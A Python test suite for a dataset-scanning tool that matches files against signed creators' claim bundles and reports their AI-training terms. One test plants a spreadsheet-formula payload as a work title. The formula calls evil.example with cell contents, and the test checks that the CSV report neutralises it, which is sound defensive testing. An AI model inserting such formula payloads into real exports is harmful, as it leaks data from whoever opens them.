"""Scanning a dataset against claim bundles, through the core API and the command."""

from __future__ import annotations

import contextlib
import csv
import errno
import json
import os
import random
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
from PIL import Image, ImageDraw

from colophon.cli import exitcodes
from colophon.cli.main import main
from colophon.core import scan as scan_module
from colophon.core.bundle import export_bundle
from colophon.core.catalog import Catalog
from colophon.core.errors import DiskFullError, NotFoundError
from colophon.core.identity import Identity
from colophon.core.keystore import KeyLocation
from colophon.core.match_index import ClaimIndex
from colophon.core.profile import Profile, Terms
from colophon.core.register import register
from colophon.core.scan import load_claims, scan
from colophon.core.verify import verify


def picture(path: Path, seed: int) -> Image.Image:
    """A picture of random shapes: different seeds give unrelated pictures."""
    rng = random.Random(seed)
    image = Image.new("RGB", (360, 240), tuple(rng.randrange(256) for _ in range(3)))
    draw = ImageDraw.Draw(image)
    for _ in range(12):
        x, y = rng.randrange(300), rng.randrange(200)
        box = (x, y, x + rng.randrange(20, 160), y + rng.randrange(20, 120))
        colour = tuple(rng.randrange(256) for _ in range(3))
        (draw.ellipse if rng.random() < 0.5 else draw.rectangle)(box, fill=colour)
    image.save(path)
    return image


@pytest.fixture
def setup(tmp_path: Path):
    """A creator's bundle of four pictures and a text; a dataset with copies and strangers."""
    works, data, claims = tmp_path / "works", tmp_path / "dataset", tmp_path / "claims"
    for folder in (works, data, claims):
        folder.mkdir()
    for i in range(4):
        image = picture(works / f"art{i}.png", i)
        image.resize((180, 120)).save(data / f"art{i}-half.jpg", quality=60)
    (works / "tale.txt").write_text("The keeper of the lighthouse counted ships at night. " * 30)
    (data / "tale-copy.txt").write_bytes((works / "tale.txt").read_bytes())
    (data / "exact.png").write_bytes((works / "art0.png").read_bytes())
    for i in range(6):
        picture(data / f"stranger{i}.png", 100 + i)
    (data / "notes.md").write_text("Nothing to do with anyone's claim.")
    with Catalog.open(tmp_path / "creator") as cat:
        register(cat, [works])
        identity = Identity(cat)
        terms = Terms().with_use("cawg.ai_training", "allowed")
        identity.create(Profile("Cleo Painter", terms=terms), KeyLocation.keyring())
        export_bundle(
            cat,
            identity,
            cat.work_ids(),
            claims / "cleo.colophon",
            thumbnails=False,
            license="CC-BY-NC-4.0",
        )
    return {"data": data, "claims": claims, "tmp": tmp_path}


def test_scan_finds_exact_and_near_copies_and_reports_terms(setup):
    claims = load_claims([setup["claims"]])
    assert len(claims.accepted) == 1 and not claims.rejected
    found = []
    summary = scan([setup["data"]], claims, found.append)
    by_file = {Path(m.path).name: m for m in found}
    assert by_file["exact.png"].match == "exact" and by_file["tale-copy.txt"].match == "exact"
    for i in range(4):
        match = by_file[f"art{i}-half.jpg"]
        assert match.match == "fingerprint" and match.work.title == f"art{i}"
    assert not any(name.startswith(("stranger", "notes")) for name in by_file)
    assert summary.files_scanned == 13
    assert (summary.matched_exact, summary.matched_fingerprint) == (2, 4)
    work = by_file["exact.png"].work
    assert work.claimant == "Cleo Painter" and not work.trusted
    assert work.terms["cawg.ai_training"] == {"use": "allowed"}
    assert work.terms["cawg.ai_generative_training"] == {"use": "notAllowed"}
    assert work.license == "CC-BY-NC-4.0"  # for uses other than AI, reported with the terms


def test_invalid_bundles_are_reported_and_never_used(setup):
    good = setup["claims"] / "cleo.colophon"
    bad = setup["claims"] / "forged.colophon"
    with zipfile.ZipFile(good) as src, zipfile.ZipFile(bad, "w") as dst:
        for item in src.infolist():
            data = src.read(item)
            if item.filename == "summary.html":
                data += b"<!-- changed -->"
            dst.writestr(item, data)
    claims = load_claims([setup["claims"]])
    assert [r.path.name for r in claims.rejected] == ["forged.colophon"]
    assert claims.rejected[0].outcome.value == "tampered"
    assert len(claims.works) == 5  # only the good bundle's works


def test_exported_index_reads_back_for_distributed_matching(setup):
    claims = load_claims([setup["claims"]])
    claims.export(setup["tmp"] / "index")
    again = ClaimIndex.load_jsonl(setup["tmp"] / "index" / "index.jsonl")
    with (setup["tmp"] / "index" / "works.jsonl").open() as fh:
        rows = [json.loads(line) for line in fh]
    assert len(again) == len(rows) == 5
    assert {r["claimant"] for r in rows} == {"Cleo Painter"}
    # Keys stay the same from run to run whatever else is loaded, so shards can be joined.
    other = setup["tmp"] / "other-claims"
    other.mkdir()
    (other / "a-first.colophon").write_bytes(b"not a claim, listed first")
    with_more = load_claims([other, setup["claims"]])
    assert set(with_more.works) == {r["key"] for r in rows}


def test_an_index_that_cannot_be_written_leaves_both_files_as_they_were(setup, monkeypatch):
    # index.jsonl and works.jsonl are joined on their keys: one of this run and one of the last
    # would lose terms. A full disk on the way leaves both of the last run.
    folder = setup["tmp"] / "index"
    folder.mkdir()
    before = {"index.jsonl": b'{"key": "last run"}\n', "works.jsonl": b'{"key": "last run"}\n'}
    for name, data in before.items():
        (folder / name).write_bytes(data)
    real = scan_module.atomic_writer

    class Full:
        def write(self, data: bytes) -> int:
            raise OSError(errno.ENOSPC, "No space left on device")

    @contextlib.contextmanager
    def full(path, mode=0o644):
        with real(path, mode):
            yield Full()

    monkeypatch.setattr(scan_module, "atomic_writer", full)  # works.jsonl cannot be written
    with pytest.raises(DiskFullError):
        load_claims([setup["claims"]]).export(folder)
    assert {name: (folder / name).read_bytes() for name in before} == before
    assert sorted(os.listdir(folder)) == ["index.jsonl", "works.jsonl"]


def test_scan_command_writes_a_csv_report(setup, capsys):
    report = setup["tmp"] / "matches.csv"
    code = main(
        [
            "--home",
            str(setup["tmp"] / "company"),
            "scan",
            str(setup["data"]),
            "--claims",
            str(setup["claims"]),
            "--report",
            str(report),
            "--json",
        ]
    )
    summary = json.loads(capsys.readouterr().out)
    assert code == exitcodes.OK
    assert summary["matched_exact"] == 2
    [(claimant, files)] = summary["by_claimant"].items()
    assert claimant.startswith("Cleo Painter (") and files == 6
    [cleo] = summary["claimants"]
    assert cleo == {
        "name": "Cleo Painter",
        "fingerprint": claimant[len("Cleo Painter (") : -1],
        "trusted": False,
        "contact": None,
        "files": 6,
    }
    with report.open(newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == 6 and {r["claim_claimant"] for r in rows} == {"Cleo Painter"}
    assert json.loads(rows[0]["claim_terms"])["cawg.ai_training"]["use"] == "allowed"
    assert {r["claim_trusted"] for r in rows} == {"false"}  # as JSON writes it
    statement = {r["claim_statement_sha256"] for r in rows}
    assert len(statement) == 1 and len(statement.pop()) == 64
    assert {r["claim_issued_at"][:2] for r in rows} == {"20"}


def test_a_csv_report_shows_formulas_from_claims_as_text(setup, capsys):
    # A stranger's title or name written as a spreadsheet formula must not run when the data
    # team opens the report; the JSONL report keeps the values exactly.
    hostile = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    works, claims = setup["tmp"] / "mallory-works", setup["tmp"] / "mallory-claims"
    works.mkdir()
    claims.mkdir()
    (works / "copy.txt").write_text("Mallory's recipe for a spreadsheet that runs itself.")
    (setup["data"] / "copy.txt").write_bytes((works / "copy.txt").read_bytes())
    with Catalog.open(setup["tmp"] / "mallory") as cat:
        register(cat, [works])
        [work_id] = cat.work_ids()
        cat.update_work(work_id, title=hostile)
        identity = Identity(cat)
        identity.create(Profile("@SUM(1+1)"), KeyLocation.keyring())
        export_bundle(cat, identity, [work_id], claims / "m.colophon", thumbnails=False)
    rows = {}
    for suffix in (".csv", ".jsonl"):
        report = setup["tmp"] / f"matches{suffix}"
        args = ["--home", str(setup["tmp"] / "co"), "scan", str(setup["data"]), "--claims"]
        code = main([*args, str(claims), "--report", str(report), "--json"])
        capsys.readouterr()
        assert code == exitcodes.OK
        with report.open(newline="") as fh:
            read = csv.DictReader(fh) if suffix == ".csv" else map(json.loads, fh)
            rows[suffix] = list(read)
    [row] = rows[".csv"]
    assert (row["claim_title"], row["claim_claimant"]) == ("'" + hostile, "'@SUM(1+1)")
    assert row["path"] == str(setup["data"] / "copy.txt")  # an ordinary text is left as it is
    [raw] = rows[".jsonl"]
    assert (raw["claim_title"], raw["claim_claimant"]) == (hostile, "@SUM(1+1)")


def test_scan_without_usable_claims_is_an_error(setup, capsys):
    empty = setup["tmp"] / "no-claims"
    empty.mkdir()
    code = main(
        ["--home", str(setup["tmp"] / "c"), "scan", str(setup["data"]), "--claims", str(empty)]
    )
    assert code == exitcodes.USAGE
    assert "No claims found in" in capsys.readouterr().err


def test_the_command_line_defaults_agree_with_the_index():
    from colophon.cli import scan as cli_scan
    from colophon.core import match_index

    assert cli_scan.DEFAULT_THRESHOLD == match_index.DEFAULT_THRESHOLD
    assert cli_scan.MAX_THRESHOLD == match_index.MAX_THRESHOLD


def test_a_cancelled_scan_stops_and_says_so(setup):
    from colophon.core.progress import Progress

    claims = load_claims([setup["claims"]])
    progress = Progress()
    progress.on_change = lambda p: p.cancel() if p.done >= 2 else None
    found = []
    summary = scan([setup["data"]], claims, found.append, progress=progress, workers=1)
    assert summary.cancelled
    assert summary.files_scanned < 13


def test_hidden_files_and_links_into_a_store_beside_the_dataset_are_checked(setup, capsys):
    # A Hugging Face snapshot is a tree of links into ../../blobs; caches hide in dot-folders.
    # Checking others' data, nothing may be passed over unsaid.
    original = setup["tmp"] / "works" / "art1.png"
    blobs, snapshot = setup["tmp"] / "hub" / "blobs", setup["tmp"] / "hub" / "snapshots" / "abc"
    blobs.mkdir(parents=True)
    snapshot.mkdir(parents=True)
    (blobs / "9f2c").write_bytes(original.read_bytes())
    (snapshot / "train-0001.png").symlink_to(Path("../../blobs/9f2c"))
    (snapshot / ".cache").mkdir()
    (snapshot / ".cache" / "poem.txt").write_bytes(
        (setup["tmp"] / "works" / "tale.txt").read_bytes()
    )
    (snapshot / "Thumbs.db").write_bytes((setup["tmp"] / "works" / "art2.png").read_bytes())
    (snapshot / "gone.png").symlink_to(snapshot / "nowhere.png")
    os.mkfifo(snapshot / "queue")

    found: list = []
    summary = scan([snapshot], load_claims([setup["claims"]]), found.append)

    assert sorted(Path(m.path).name for m in found) == ["Thumbs.db", "poem.txt", "train-0001.png"]
    assert sorted((Path(s.path).name, s.reason) for s in summary.skipped) == [
        ("gone.png", "cannot be read (No such file or directory)"),
        ("queue", "not a regular file"),
    ]
    code = main(
        [
            *("--home", str(setup["tmp"] / "company"), "scan", str(snapshot)),
            *("--claims", str(setup["claims"]), "--json"),
        ]
    )
    out, err = capsys.readouterr()
    assert code == exitcodes.OK
    assert json.loads(out)["skipped"] == [
        {
            "path": str(snapshot / "gone.png"),
            "reason": "cannot be read (No such file or directory)",
        },
        {"path": str(snapshot / "queue"), "reason": "not a regular file"},
    ]
    assert f"skipped {snapshot / 'queue'}: not a regular file" in err

    result = verify(setup["claims"] / "cleo.colophon", None, against=[snapshot])
    assert sum(1 for files in result.matches.values() if files) == 3


@pytest.mark.parametrize("signum", [signal.SIGTERM, signal.SIGINT])
def test_a_scan_stopped_by_a_signal_says_so_and_leaves_no_report(setup, signum):
    # `timeout`, `kill` and container runtimes send SIGTERM; a report cut short must not look
    # whole, and its temporary file must go.
    with open(setup["data"] / "huge.bin", "wb") as fh:
        fh.truncate(64 << 30)  # sparse: reading it takes long, storing it nothing
    report = setup["tmp"] / "out" / "report.csv"
    report.parent.mkdir()
    command = [sys.executable, "-m", "colophon", "--home", str(setup["tmp"] / "company")]
    command += ["scan", str(setup["data"]), "--claims", str(setup["claims"]), "--report"]
    scan_run = subprocess.Popen(
        [*command, str(report)], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
    )
    deadline = time.monotonic() + 60
    while not list(report.parent.glob(".report.csv.*")) and time.monotonic() < deadline:
        time.sleep(0.05)  # the report is being written: the scan is under way
    time.sleep(0.3)
    scan_run.send_signal(signum)
    out, err = scan_run.communicate(timeout=60)

    assert scan_run.returncode == exitcodes.CANCELLED, err
    assert "Cancelled: only scanned" in out
    assert "cancelled after" in err and f"no report was written to {report}" in err
    assert "Traceback" not in err
    assert list(report.parent.iterdir()) == []


def test_a_dataset_that_does_not_exist_is_an_error_not_an_empty_dataset(setup, capsys):
    # A mistyped mount path must not read as a dataset free of claimed works.
    claims = load_claims([setup["claims"]])
    missing = setup["tmp"] / "no-such-dataset"
    with pytest.raises(NotFoundError, match="no-such-dataset"):
        scan([setup["data"], missing], claims, lambda _m: None)
    code = main(
        ["--home", str(setup["tmp"] / "c"), "scan", str(missing), "--claims", str(setup["claims"])]
    )
    assert code == exitcodes.NOT_FOUND
    out, err = capsys.readouterr()
    assert out == "" and "There is no file or folder" in err


def test_a_claim_given_twice_is_used_once_and_each_file_counts_once(setup, capsys):
    bundle = setup["claims"] / "cleo.colophon"
    copies = setup["tmp"] / "more-claims"
    copies.mkdir()
    (copies / "cleo-copy.colophon").write_bytes(bundle.read_bytes())
    claims = load_claims([setup["claims"], copies, bundle])
    assert len(claims.accepted) == 1 and len(claims.works) == 5
    assert claims.repeated == [(copies / "cleo-copy.colophon", bundle)]
    found = []
    summary = scan([setup["data"]], claims, found.append)
    assert (summary.matched_exact, summary.matched_fingerprint, summary.matches) == (2, 4, 6)
    assert len({m.path for m in found}) == len(found) == 6

    code = main(
        [
            *("--home", str(setup["tmp"] / "c"), "scan", str(setup["data"])),
            *("--claims", str(bundle), str(copies)),
        ]
    )
    out, err = capsys.readouterr()
    assert code == exitcodes.OK
    assert "from 1 bundle: 2 exact copies, 4 near copies." in out
    assert f"ignored {copies / 'cleo-copy.colophon'}: the same claim as {bundle}" in err


def test_a_file_copying_two_claimed_works_counts_once(setup):
    # The same picture claimed twice (by two bundles) is one file found, and two report rows.
    data = setup["tmp"] / "one-file"
    data.mkdir()
    (data / "copy.txt").write_bytes((setup["tmp"] / "works" / "tale.txt").read_bytes())
    two = setup["tmp"] / "two-claims"
    two.mkdir()
    with Catalog.open(setup["tmp"] / "creator") as cat:
        identity = Identity(cat)
        ids = cat.work_ids()
        [tale] = [w.id for w in cat.works_by_ids(ids) if w.title == "tale"]
        export_bundle(cat, identity, [tale], two / "b.colophon", thumbnails=False)
    claims = load_claims([two, setup["claims"] / "cleo.colophon"])
    found = []
    summary = scan([data], claims, found.append)
    bundles = {Path(m.work.bundle).name for m in found}
    assert len(found) == 2 and bundles == {"b.colophon", "cleo.colophon"}
    assert (summary.matched_exact, summary.matches) == (1, 2)
    assert list(summary.by_claimant.values()) == [1]


def test_file_names_that_are_not_utf8_are_reported_with_their_bytes_escaped(setup, capsys):
    # Crawled datasets hold names in old encodings; a report must still be written, as UTF-8.
    data = setup["tmp"] / "latin1"
    data.mkdir()
    name = os.fsdecode(b"caf\xe9.txt")
    (data / name).write_bytes((setup["tmp"] / "works" / "tale.txt").read_bytes())
    for suffix in (".csv", ".jsonl", ".json"):
        report = setup["tmp"] / f"report{suffix}"
        code = main(
            [
                *("--home", str(setup["tmp"] / "c"), "scan", str(data)),
                *("--claims", str(setup["claims"]), "--report", str(report), "--json"),
            ]
        )
        summary = json.loads(capsys.readouterr().out)
        assert code == exitcodes.OK and summary["matched_exact"] == 1
        text = report.read_text(encoding="utf-8")  # strict: the report is valid UTF-8
        if suffix == ".csv":
            [row] = list(csv.DictReader(text.splitlines()))
        elif suffix == ".jsonl":
            row = json.loads(text)
        else:
            [row] = json.loads(text)["matches"]
        assert row["path"] == str(data / "caf\\xe9.txt")


def test_verify_against_a_folder_reports_near_copies_apart_from_exact_ones(setup, capsys):
    # The same fingerprints as a scan: resized copies are near copies, never "found".
    bundle = setup["claims"] / "cleo.colophon"
    result = verify(bundle, None, against=[setup["data"]])
    assert result.matches is not None and result.near is not None
    by_title = {w["title"]: w for w in result.to_dict()["works"]}
    assert [Path(p).name for p in by_title["art0"]["local_files"]] == ["exact.png"]
    for i in range(4):
        [near] = by_title[f"art{i}"]["local_near_copies"]
        assert Path(near["path"]).name == f"art{i}-half.jpg" and 0 <= near["distance"] <= 6
    assert by_title["tale"]["local_near_copies"] == []
    unmatched = {Path(p).name for p in result.unmatched or []}
    assert "art1-half.jpg" not in unmatched and "stranger0.png" in unmatched

    code = main(
        [
            *("--home", str(setup["tmp"] / "c"), "verify", str(bundle)),
            *("--against", str(setup["data"])),
        ]
    )
    out = capsys.readouterr().out
    assert code == exitcodes.UNKNOWN_SIGNER
    assert "2 of 5 works found (and 3 as near copies only)" in out
    assert "[near copy] art1: " in out and "art1-half.jpg (" in out
    assert "[    found] art0: " in out and "art0-half.jpg (" in out  # beside the exact copy


def test_overlapping_dataset_paths_are_read_once_and_claimants_are_told_apart_by_key(
    setup, tmp_path
):
    # Another key that also signs as "Cleo Painter" is another claimant.
    data = setup["data"]
    (data / "sub").mkdir()
    (data / "sub" / "again.txt").write_bytes((setup["tmp"] / "works" / "tale.txt").read_bytes())
    with Catalog.open(setup["tmp"] / "impostor") as cat:
        register(cat, [setup["tmp"] / "works" / "tale.txt"])
        identity = Identity(cat)
        identity.create(Profile("Cleo Painter"), KeyLocation.keyring())
        export_bundle(cat, identity, cat.work_ids(), tmp_path / "other.colophon", thumbnails=False)
    claims = load_claims([setup["claims"], tmp_path / "other.colophon"])
    summary = scan([data, data / "sub", data], claims, lambda _m: None)
    assert summary.files_scanned == 14  # 13 + the one in sub, each once
    assert sorted(summary.by_claimant.values()) == [2, 7]
    assert {c.name for c in summary.by_claimant} == {"Cleo Painter"}
    assert len({c.fingerprint for c in summary.by_claimant}) == 2


def test_a_report_and_an_index_written_inside_the_dataset_are_not_scanned(setup, capsys):
    data = setup["data"]
    files = sum(1 for p in data.rglob("*") if p.is_file())
    code = main(
        [
            *("--home", str(setup["tmp"] / "company"), "scan", str(data)),
            *("--claims", str(setup["claims"])),
            *("--report", str(data / "report.jsonl"), "--export-index", str(data / "index")),
            "--json",
        ]
    )
    summary = json.loads(capsys.readouterr().out)
    assert code == exitcodes.OK
    assert summary["files_scanned"] == files
    assert (data / "report.jsonl").is_file() and (data / "index" / "index.jsonl").is_file()


@pytest.mark.parametrize("through", ["dataset", "outputs"])
def test_outputs_inside_the_dataset_are_known_however_either_is_named(setup, capsys, through):
    # A dataset named through a link (a mounted volume, a "current" link) holds the report
    # written into its real folder, and the converse: neither is scanned as the dataset's own.
    data = setup["data"]
    files = sum(1 for p in data.rglob("*") if p.is_file())
    link = setup["tmp"] / "current"
    link.symlink_to(data, target_is_directory=True)
    dataset, place = (link, data) if through == "dataset" else (data, link)
    report = place / "report.jsonl"
    for run in range(2):  # the second run finds the first one's report there
        code = main(
            [
                *("--home", str(setup["tmp"] / "company"), "scan", str(dataset)),
                *("--claims", str(setup["claims"])),
                *("--report", str(report), "--export-index", str(place / "index")),
                "--json",
            ]
        )
        summary = json.loads(capsys.readouterr().out)
        assert code == exitcodes.OK
        assert summary["files_scanned"] == files, run
    assert (data / "report.jsonl").is_file() and (data / "index" / "index.jsonl").is_file()


def test_claims_given_in_two_options_are_all_used():
    from colophon.cli.main import build_parser

    args = build_parser().parse_args(["scan", "data", "--claims", "a", "b", "--claims", "c"])
    assert args.claims == ["a", "b", "c"]


def test_scan_when_every_bundle_is_rejected_says_why_each_was(setup, capsys):
    # A pipeline reads why its whole drop of claims was refused, in --json too (exit 1).
    bad = setup["tmp"] / "bad-claims"
    bad.mkdir()
    good = (setup["claims"] / "cleo.colophon").read_bytes()
    (bad / "cut.colophon").write_bytes(good[: len(good) // 2])
    (bad / "empty.colophon").write_bytes(b"")
    code = main(["--home", str(setup["tmp"] / "team"), "scan", str(setup["data"]),
                 "--claims", str(bad), "--json"])  # fmt: skip
    out, err = capsys.readouterr()
    assert code == 1
    data = json.loads(out)
    assert data["claims_used"] == 0
    assert sorted(Path(r["file"]).name for r in data["claims_rejected"]) == [
        "cut.colophon",
        "empty.colophon",
    ]
    assert {r["outcome"] for r in data["claims_rejected"]} == {"malformed"}
    assert err.endswith("error: No usable claims: every bundle given was rejected (see above).\n")
